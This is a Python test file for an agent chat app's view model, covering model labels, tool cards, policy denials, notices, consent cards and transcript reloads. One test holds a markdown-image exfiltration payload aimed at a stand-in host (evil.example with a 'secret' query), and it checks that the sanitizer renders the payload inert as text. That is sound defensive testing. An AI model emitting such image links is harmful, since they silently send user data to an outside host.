"""The Chat page's pure view model: labels, notices and the transcript of a stored chat."""

from __future__ import annotations

import dataclasses
import json

from agent.background import TURN_BROKEN, TURN_STOPPED
from agent.events import (
    ConsentNeeded,
    ConsentSettled,
    McpConnected,
    McpUnavailable,
    ToolFinished,
    ToolStarted,
    TurnFailed,
    card_record,
)
from agent.memory import Entry
from identity.broker import PendingConsent
from identity.cloud import CloudTarget
from identity.settings import load_settings
from ui import chat_view as view

SETTINGS = load_settings({}, config_file="/nonexistent/config.yml")
CLOUD = CloudTarget("cloud", "cn-beijing", "https", "c", "d", "i", "r", "s", "o", "https://d/oauth2/callback/")


def _entries(*bodies: dict) -> list[Entry]:
    return [Entry(n, "message" if "role" in body else "card", body) for n, body in enumerate(bodies)]


def test_the_model_label_says_which_model_answers():
    assert view.model_label(SETTINGS, CLOUD) == "Model: Qwen qwen3-max on DashScope"
    local = dataclasses.replace(CLOUD, local=object(), dashscope_base_url="http://127.0.0.1:1/api/v1")
    assert view.model_label(SETTINGS, local) == "Model: local model stand-in (no DASHSCOPE_API_KEY)"


def test_tool_cards_name_the_credential_and_never_its_value():
    started = ToolStarted("c", "get_schedule", {"date": "2026-01-01"}, "sts", "")
    assert view.tool_started_label(started) == "get_schedule · STS from workload RAM role · running…"
    done = ToolFinished("c", "weather_search", False, "api_key", "test-provider-api-key", 41.6, "failed: 403",
                        "sha256:0123456789")
    assert view.tool_finished_label(done) == "weather_search · API key from test-provider-api-key · failed · 42 ms"
    assert "`sha256:0123456789`" in view.tool_details(done)


def test_a_gateway_card_says_the_token_was_injected_and_a_denial_names_the_deciding_policies():
    started = ToolStarted("c", "listOrders", {}, "oauth2", "mcp-order-oauth2", "AI Gateway")
    assert view.tool_started_label(started) == "listOrders · OAuth2 from mcp-order-oauth2 via the AI Gateway · running…"
    allowed = ToolFinished("c", "listOrders", True, "oauth2", "mcp-order-oauth2", 12.0, "[]", "sha256:0123456789",
                           "AI Gateway")
    assert view.tool_finished_label(allowed).endswith("via the AI Gateway · ok · 12 ms")
    details = view.tool_details(allowed)
    assert "your workload access token `sha256:0123456789`" in details and "the app never held it" in details
    named = dataclasses.replace(allowed, ok=False, denied_by=("nobody-deletes", "frozen-orders"))
    assert view.tool_finished_label(named) == ("listOrders · OAuth2 from mcp-order-oauth2 via the AI Gateway · "
                                               "Denied by policy nobody-deletes, frozen-orders · 12 ms")
    unnamed = dataclasses.replace(named, denied_by=())
    assert "· Denied by policy (no policy permits it) ·" in view.tool_finished_label(unnamed)
    failed = dataclasses.replace(allowed, ok=False)  # not a policy's denial: a plain failure
    assert view.tool_finished_label(failed).endswith("· failed · 12 ms")


def test_a_denial_survives_a_reload_of_the_chat():
    denied = ToolFinished("c", "deleteOrder", False, "oauth2", "mcp-order-oauth2", 5.0, "denied", "", "AI Gateway",
                          (), 1.0, 2.0)
    [bubble] = view.transcript(_entries(json.loads(json.dumps(card_record(denied)))))  # as the database keeps it
    [card] = bubble.items
    assert card == denied and card.denied_by == ()  # an empty tuple, not None: denied, by no named policy
    assert "Denied by policy (no policy permits it)" in view.tool_finished_label(card)


def test_notices_skip_the_everyday_mcp_connection():
    assert view.notice_of(McpConnected(("a", "b"), via="vault")) is None
    assert view.notice_of(McpConnected(("a", "b"), via="consent")).level == "info"
    assert view.notice_of(McpUnavailable("refused")).level == "warning"
    gateway = view.notice_of(McpUnavailable("down", server="AI Gateway's order tools"))
    assert gateway.text.startswith("AI Gateway's order tools unavailable, answering without it")
    assert "`InvalidApiKey`" in view.notice_of(TurnFailed("InvalidApiKey", "bad")).text
    stopped = view.notice_of(TurnFailed(TURN_STOPPED, "A newer message in this chat stopped this turn."))
    assert stopped.level == "warning" and stopped.text.startswith("A newer message in this chat stopped this turn")
    broken = view.notice_of(TurnFailed(TURN_BROKEN, "ChatNotFound: This chat does not exist."))
    assert broken.level == "error" and broken.text.startswith("ChatNotFound\\: This chat")
    assert "model" not in broken.text  # a broken turn is not the model's failure


def test_the_transcript_groups_turns_and_settles_consent_cards():
    needed = ConsentNeeded("s1", "get_current_time", "mcp", ("openid",), "http://x/oauth2/authorize", 9.0)
    finished = ToolFinished("c1", "get_current_time", True, "oauth2", "mcp", 5.0, "08:00")
    bubbles = view.transcript(_entries(
        {"role": "user", "content": "time?"}, card_record(needed),
        card_record(ConsentSettled("s1", "mcp", "completed")), card_record(finished),
        {"role": "assistant", "content": "", "tool_calls": [{"id": "c1"}]},
        {"role": "tool", "content": "08:00", "tool_call_id": "c1"},
        {"role": "assistant", "content": "It's 08:00."}, {"role": "user", "content": "thanks"}))
    assert [b.role for b in bubbles] == ["user", "assistant", "user"]
    card, tool, text = bubbles[1].items
    assert card.settled.status == "completed" and card.needed.authorization_url == ""
    assert tool == finished and text == "It's 08:00."
    assert view.consent_settled_text(card.settled).startswith("mcp: connected")


def _consent(state: str) -> PendingConsent:
    return PendingConsent(state, ("i", "alice"), "mcp", ("openid",), "https://d/oauth2/authorize?x=1", "urn:s", 1.0,
                          601.0)


def test_a_running_turns_stored_consent_waits_with_its_pending_consent_and_an_ended_ones_says_so():
    needed = ConsentNeeded("s1", "get_current_time", "mcp", ("openid",), "", 601.0)
    entries = _entries({"role": "user", "content": "What time is it now?"}, card_record(needed))
    [_, running] = view.transcript(entries, {"s1": _consent("s1")}, turn_open=True)
    [card] = running.items
    assert card.waiting == _consent("s1") and card.turn_open  # the page shows Authorize again
    [_, ended] = view.transcript(entries)
    [card] = ended.items
    assert card.waiting is None and view.stored_consent_text(card) == "The turn ended before this consent was settled."
    [_, settling] = view.transcript(entries, {}, turn_open=True)  # approved, and the turn has not recorded it yet
    assert settling.items[0].waiting is None and "picks up the outcome" in view.stored_consent_text(settling.items[0])


def test_a_consent_asked_again_by_a_later_turn_settles_the_later_card_only():
    needed = ConsentNeeded("s1", "get_current_time", "mcp", ("openid",), "", 601.0)
    entries = _entries({"role": "user", "content": "time?"}, card_record(needed),
                       card_record(TurnFailed(TURN_STOPPED, "A newer message in this chat stopped this turn.")),
                       {"role": "user", "content": "time now?"}, card_record(needed))
    first, second = (bubble.items[0] for bubble in view.transcript(entries, {"s1": _consent("s1")}, turn_open=True)
                     if bubble.role == "assistant")
    assert first.waiting is None and not first.turn_open  # only the running turn's card gets the button
    assert second.waiting == _consent("s1")


def test_markdown_images_in_model_text_are_shown_as_text():
    shown = view.safe_markdown("see ![x](https://evil.example/?q=secret)")
    assert shown == "see !\\[x]\\(https:\u2060//evil.example/?q=secret)"


def test_the_page_state_belongs_to_one_user():
    state = view.ChatState(owner=("i", "alice"), chat_id="c", pending_prompt="hi")
    assert state.for_user(("i", "alice")) is state and state.take_prompt() == "hi" and state.take_prompt() is None
    assert state.for_user(("i", "bob")).chat_id is None
